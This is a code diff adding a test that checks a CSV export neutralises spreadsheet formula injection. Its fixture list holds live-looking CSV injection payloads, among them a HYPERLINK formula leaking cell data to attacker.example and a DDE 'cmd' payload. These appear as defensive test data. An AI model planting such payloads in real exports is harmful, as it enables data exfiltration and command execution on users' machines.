@@ -298,6 +298,27 @@ def test_capture_export_jsonl_and_csv(kolm_settings, ticket_store, capsys, tmp_p
     assert [p.name for p in exports.iterdir()] == ["kept.csv"]  # no temp file left behind
 
 
+def test_capture_export_csv_defuses_spreadsheet_formulas(kolm_settings, capsys) -> None:
+    """A captured text is whatever a client sent: in CSV, a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage
+    return would run as a formula where the export is opened (OWASP's "CSV injection"), so such a cell is written
+    with a leading `'`; the JSONL export keeps every text exactly."""
+    store = CaptureStore(kolm_settings.store_url)
+    hostile = ['=HYPERLINK("https://attacker.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+               "\t=1+1"]
+    store.insert_captures([NewCapture(
+        request_id=uuid.uuid4().hex, tenant="acme", namespace="support", provider="openai", model=text,
+        messages=[{"role": "user", "content": text}], output_text=text, latency_us=1, status="ok", http_status=200,
+        tags=["t"]) for text in hostile])
+    assert main(["capture", "export", "--namespace", "acme.support", "--format", "csv"]) == 0
+    records = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert sorted(r["output_text"] for r in records) == sorted("'" + text for text in hostile)
+    assert sorted(r["model"] for r in records) == sorted("'" + text for text in hostile)
+    assert all(r["latency_us"] == "1" for r in records)  # numbers are no formulas: written as they are
+    assert main(["capture", "export", "--namespace", "acme.support"]) == 0
+    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert sorted(r["output_text"] for r in rows) == sorted(hostile)
+
+
 def test_triage_correct_records_a_redacted_correction_with_its_actor(kolm_settings, ticket_store, capsys) -> None:
     from kolm_pipeline.demo.tickets import generate_tickets
     from kolm_pipeline_tests.conftest import capture_tickets
